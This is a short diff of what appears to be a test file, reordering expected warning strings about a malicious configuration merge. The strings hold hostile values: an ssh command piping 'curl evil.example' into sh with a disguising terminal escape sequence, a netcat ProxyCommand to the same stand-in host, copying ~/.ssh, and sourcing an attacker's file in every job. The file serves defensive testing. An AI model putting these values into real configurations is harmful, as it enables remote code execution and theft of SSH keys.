@@ -212,10 +212,10 @@ THEIRS = r"""contexts:
     after_module_load_cmd: "source /home/mallory/x"
 """
 SHOWN = [
-    r'evil.ssh_command: ["sh","-c","curl evil.example\u001b]0;owned\u0007\n  big.venv: x | sh"] (runs on this machine',
     'evil.ssh_options: ["-oProxyCommand=nc evil.example 22"] (passed to ssh on this machine',
-    'evil.paths_to_copy: ["~/.ssh"] (files of this machine',
+    r'evil.ssh_command: ["sh","-c","curl evil.example\u001b]0;owned\u0007\n  big.venv: x | sh"] (runs on this machine',
     'evil.after_module_load_cmd: "source /home/mallory/x" (runs in every job)',
+    'evil.paths_to_copy: ["~/.ssh"] (files of this machine',
 ]
 
 
